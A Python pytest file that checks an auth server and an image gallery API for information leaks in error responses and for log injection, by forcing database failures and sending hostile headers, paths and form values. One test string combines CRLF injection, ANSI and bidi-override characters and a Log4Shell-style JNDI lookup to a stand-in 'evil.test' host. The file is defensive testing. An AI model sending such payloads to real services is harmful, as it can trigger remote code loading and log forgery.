"""Group R: what an error tells, and what becomes in the log of whatever strangers send."""

from __future__ import annotations

import io
import itertools
import json
import logging
import re
import sys
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import httpx2
import pytest
import structlog

from authserver import database as authserver_database
from authserver import logs as authserver_logs
from resource_api import database as gallery_database
from resource_api import logs as gallery_logs
from tests.authserver.protocol.flows import BROWSER, PASSWORD, World, request_for
from tests.resource_api.callers import ANA, headers, png

CANARY = "canary-3f9d1b"
SECRET = 'S3CRET at File "/srv/app.py", line 7: SELECT * FROM users'
INSIDE = re.compile(
    r"S3CRET|Traceback|File \"|\.py\b|/srv/|site-packages|\bSELECT\b|\bINSERT\b|sqlalchemy|asyncpg|sqlite"
    r"|postgres|starlette|fastapi|uvicorn|pydantic|authlib|joserfc|CPython|\b0\.1\.0\b",
    re.IGNORECASE,
)
EVIL = 'x\r\nlevel=error\x1b[31m\u2028\u202e"q"%s{0}${jndi:ldap://evil.test/a}'
LONG, LONGEST_ADDRESS = "a" * 1_000_000, 30_000  # more than that our client refuses to send
LINE_BYTES = 8 * 1024


@pytest.fixture(autouse=True)
def _no_server_error() -> None:
    """In place of the one that forbids them: here servers are made to fail."""


def check(answer: httpx2.Response) -> None:
    """Nothing about the inside, whatever went wrong; and the number under which it was recorded."""
    told = f"{answer.headers}\n{answer.text}"
    where = (answer.request.method, str(answer.url)[:100], answer.status_code, told[:500])
    assert INSIDE.search(told) is None, where
    assert not {"server", "x-powered-by"} & set(answer.headers), where
    if answer.status_code >= 500:
        assert answer.headers["x-request-id"] in answer.text, where


def addresses(app: Any) -> list[tuple[str, str]]:
    """Every method of every route, with an id where one belongs."""
    found = []
    for route in app.router.routes:
        path = re.sub(r"{[^}]*}", "0193a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b", route.path)
        found += [(method, path) for method in sorted(getattr(route, "methods", None) or ())]
    return found


@pytest.fixture
def lines(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[Any, Any], Callable[[], list[str]]]]:
    """Configures one service's logs, and gives what is written from then on, line by line."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level

    def begin(logs: Any, settings: Any) -> Callable[[], list[str]]:
        text = io.StringIO()
        monkeypatch.setattr(sys, "stderr", text)
        logs.configure(settings.model_copy(update={"log_level": "info", "log_format": "json"}))
        root.handlers[0].addFilter(lambda line: not line.name.startswith("http"))  # this test's own client
        return lambda: text.getvalue().split("\n")[:-1]

    yield begin
    structlog.reset_defaults()
    root.handlers[:] = handlers
    root.setLevel(level)


def records(written: list[str]) -> list[dict[str, Any]]:
    """Every line is one record, of printable ASCII and not too long."""
    found = []
    for line in written:
        assert len(line) <= LINE_BYTES, line[:200]
        assert line.isascii(), line[:200]
        assert line.isprintable(), line[:200]
        record = json.loads(line)
        assert isinstance(record, dict)
        found.append(record)
    return found


async def test_row_140_a_failing_server_tells_nothing_of_its_inside(
    world: World, lines: Any, monkeypatch: Any
) -> None:
    app = await world.add_app("client_secret_post")
    form = {"email": "a@b.test", "password": PASSWORD, "token": "x", "grant_type": "refresh_token"}
    form |= {**app.credentials()["data"], "refresh_token": "rt_x", "code": "x"}

    def fails(*_: object) -> None:
        raise RuntimeError(SECRET)

    for name in ("read", "transaction"):
        monkeypatch.setattr(authserver_database.Database, name, fails)
    written, failed = lines(authserver_logs, world.server.settings), 0
    for accept, (method, path) in itertools.product(("text/html", "*/*"), addresses(world.server.app)):
        given = {"accept": accept, "sec-fetch-site": "same-origin"}
        sending: dict[str, Any] = {"data": form} if method == "POST" else {"params": request_for(app)}
        answer = await world.client.request(method, path, headers=given, **sending)
        if method != "HEAD" and answer.status_code >= 400 and path != "/readyz":
            check(answer)
        failed += answer.status_code == 500
    assert failed >= 12
    assert sum(SECRET in record.get("exception", "") for record in records(written())) == failed


async def test_row_140_a_failing_gallery_tells_nothing_of_its_inside(
    gallery: Any, lines: Any, monkeypatch: Any
) -> None:
    given = headers(gallery, ANA)

    def fails(*_: object) -> None:
        raise RuntimeError(SECRET)

    for name in ("read", "transaction"):
        monkeypatch.setattr(gallery_database.Database, name, fails)
    written, failed = lines(gallery_logs, gallery.settings), 0
    names = ("title", "prompt", "image_id", "handle")
    bodies: list[dict[str, Any]] = [{}, {"image_ids": []}, *({name: "x" * 36} for name in names)]
    for method, path in addresses(gallery.app):
        for body in bodies if method != "GET" else bodies[:1]:
            answer = await gallery.client.request(method, path, headers=given, json=body)
            if answer.status_code >= 400:
                check(answer)
            failed += answer.status_code == 500
    assert failed >= 20
    assert sum(SECRET in record.get("exception", "") for record in records(written())) == failed


async def test_row_140_no_refusal_repeats_what_was_sent(world: World, gallery: Any) -> None:
    """Neither a secret in a form that had a mistake elsewhere, nor any value of a body that was not understood."""
    await world.add_person()
    app = await world.add_app("client_secret_post")
    names = ("password", "client_secret", "code", "code_verifier", "refresh_token", "token", "form_token")
    form = {**dict.fromkeys(names, CANARY), "email": "ana@example.test", "username": "ana@example.test"}
    form |= {"client_id": app.client_id, "decision": CANARY}
    grants = ("authorization_code", "refresh_token", "password", CANARY)
    statuses = set()
    kinds: tuple[dict[str, str], ...] = ({}, BROWSER, {"content-type": "application/json"})
    for (method, path), grant, given in itertools.product(addresses(world.server.app), grants, kinds):
        # What a form is for matters to two of them.
        if method != "GET" and (path in ("/oauth/token", "/login") or grant == grants[0]):
            sent = {**form, "grant_type": grant, **({"request": CANARY} if grant == CANARY else {})}
            more = {"cookie": f"authserver_local={CANARY}", **given}
            answer = await world.client.request(method, path, data=sent, headers=more)
            if answer.status_code >= 400:
                check(answer)
                assert CANARY not in f"{answer.headers}{answer.text}", (method, path, grant)
                statuses.add(answer.status_code)
    assert statuses >= {400, 401, 403, 415, 422}

    statuses.clear()
    wrong: tuple[dict[str, Any], ...] = (
        {"json": {"title": [CANARY], "prompt": {CANARY: 1}, "seed": CANARY, "handle": f"{CANARY}!"}},
        {"json": {"title": "x", "image_id": CANARY, "image_ids": [CANARY], "position": CANARY}},
        {"content": f'{{"title": "{CANARY}"', "headers": {"content-type": "application/json"}},
        {"data": {"title": CANARY}},
        {"files": {"file": (f"{CANARY}.png", CANARY.encode(), "image/png"), "title": (None, "x" * 300)}},
        {"params": {"limit": CANARY, "cursor": CANARY, "owner": CANARY}},
    )
    for (method, path), body in itertools.product(addresses(gallery.app), wrong):
        given = {**headers(gallery, ANA), **body.get("headers", {})}
        answer = await gallery.client.request(method, path, **{**body, "headers": given})
        if answer.status_code >= 400:
            check(answer)
            assert CANARY not in f"{answer.headers}{answer.text}", (method, path, body)
            statuses.add(answer.status_code)
    assert statuses >= {400, 404, 415, 422}
    forged = await gallery.client.get("/images", headers={"authorization": f"Bearer {CANARY}.{CANARY}.x"})
    assert (forged.status_code, CANARY in f"{forged.headers}{forged.text}") == (401, False)


async def test_row_138_whatever_is_sent_is_one_line_of_the_log(world: World, lines: Any) -> None:
    written = lines(authserver_logs, world.server.settings)
    answers = []
    app = await world.add_app()
    for text in (EVIL, LONG):
        raw = text.encode()
        answers += [
            await world.client.get("/" + quote(text[:LONGEST_ADDRESS])),
            await world.client.request("FOO" + text[:50].replace("\r\n", ""), "/login"),
            await world.client.get("/login", headers=[(b"user-agent", raw), (b"x-request-id", raw)]),
            await world.client.get("/login", headers=[(b"x-forwarded-for", raw), (b"accept-language", raw)]),
            await world.client.post("/login", data={"email": text, "password": "x"}, headers=BROWSER),
            await world.client.get("/oauth/authorize", params=request_for(app, state=text[:LONGEST_ADDRESS])),
            await world.token(grant_type="refresh_token", client_id=text, refresh_token=text),
        ]
    found = records(written())
    assert sum(record["event"] == "request" for record in found) == len(answers)
    assert {record["level"] for record in found} == {"info"}
    assert {record["request_id"] for record in found} == {
        answer.headers["x-request-id"] for answer in answers
    }


async def test_row_138_whatever_the_gallery_is_sent_is_one_line_of_the_log(gallery: Any, lines: Any) -> None:
    given = headers(gallery, ANA)
    await gallery.client.get("/images", headers=given)  # the key set is fetched, and told of
    written = lines(gallery_logs, gallery.settings)
    answers = []
    for text in (EVIL, LONG):
        raw = text.encode()
        named = {"file": (text.replace('"', ""), png(), "image/png")}
        more = [*given.items(), (b"user-agent", raw), (b"x-request-id", raw), (b"idempotency-key", raw)]
        answers += [
            await gallery.client.get("/images/" + quote(text[:LONGEST_ADDRESS]), headers=given),
            await gallery.client.get("/images", params={"cursor": text[:LONGEST_ADDRESS]}, headers=given),
            await gallery.client.post("/images", json={"prompt": text}, headers=more),
            await gallery.client.post("/uploads", files=named, data={"title": text}, headers=given),
            await gallery.client.patch("/me", json={"handle": text, "display_name": text}, headers=given),
            await gallery.client.get("/images", headers={"authorization": b"Bearer " + raw}),
        ]
    found = records(written())
    assert sum(record["event"] == "request" for record in found) == len(answers)
    assert {record["level"] for record in found} == {"info"}
